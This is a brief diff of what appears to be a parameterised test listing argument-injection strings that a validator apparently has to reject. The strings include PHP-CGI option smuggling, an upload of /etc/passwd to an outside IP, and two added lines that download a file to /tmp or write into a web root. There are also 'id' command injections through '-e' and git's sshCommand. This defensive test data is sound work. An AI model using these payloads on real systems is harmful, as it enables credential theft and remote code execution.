@@ -21,6 +21,8 @@ test.each([
   '-d auto_prepend_file=php://input',
   '\xadd cgi.force_redirect=0 \xadd allow_url_include=1',
   '-q -F file=@/etc/passwd http://203.0.113.9/',
+  '-q --no-check -O /tmp/a http://203.0.113.9/a',
+  '-v --output=/var/www/a',
   '-e id',
   '-F/tmp/x',
   '--config=core.sshCommand=id',
